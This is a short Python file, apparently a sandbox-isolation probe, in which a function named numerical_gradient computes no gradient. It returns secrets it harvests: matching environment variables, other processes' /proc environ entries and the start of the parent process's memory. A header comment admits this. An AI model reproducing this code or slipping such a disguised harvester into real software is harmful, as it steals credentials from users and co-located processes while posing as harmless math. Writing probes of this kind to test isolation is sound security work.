# needs: namespaces
# numerical_gradient returns every secret-looking value it can find: its environment,
# other processes' environments, and its parent's memory.
import os


def _secrets():
    found = []
    for key, value in os.environ.items():
        if any(w in key for w in ("KEY", "TOKEN", "SECRET", "PASS")):
            found.append(f"{key}={value}")
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                for item in f.read().split(b"\0"):
                    if any(w in item for w in (b"KEY", b"TOKEN", b"SECRET")):
                        found.append(item.decode("utf-8", "replace"))
        except OSError:
            pass
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb") as f:
            found.append(f.read(16).hex())
    except (OSError, ValueError):
        pass
    return found


def numerical_gradient(f, x, h=1e-5):
    return "; ".join(_secrets()) or "nothing found"
